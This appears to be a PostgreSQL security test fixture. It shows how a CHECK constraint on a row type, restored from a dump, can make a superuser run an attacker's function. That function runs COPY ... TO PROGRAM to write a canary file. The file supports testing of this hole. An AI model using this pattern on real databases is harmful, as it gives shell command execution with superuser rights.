-- A check over a whole row, which a dump has apart from its table, is evaluated where it is restored.
-- setting: behind
-- victims: owner superuser-as-owner
-- verbs: rehearse
-- by hand: ALTER TABLE mallory.t ADD CONSTRAINT d CHECK (mallory.evil(NULL::mallory.t))
-- exit rehearse: 0 7

CREATE FUNCTION mallory.pwn() RETURNS void LANGUAGE plpgsql AS $$BEGIN
  IF current_setting('is_superuser') = 'on' THEN COPY (SELECT current_user) TO PROGRAM 'cat > @CANARY@'; END IF;
END$$;
CREATE TABLE mallory.t (a int);
CREATE FUNCTION mallory.evil(r mallory.t) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$BEGIN
  PERFORM mallory.pwn(); RETURN true; END$$;
ALTER TABLE mallory.t ADD CONSTRAINT c CHECK (mallory.evil(NULL::mallory.t));
GRANT SELECT ON ALL TABLES IN SCHEMA mallory TO PUBLIC;
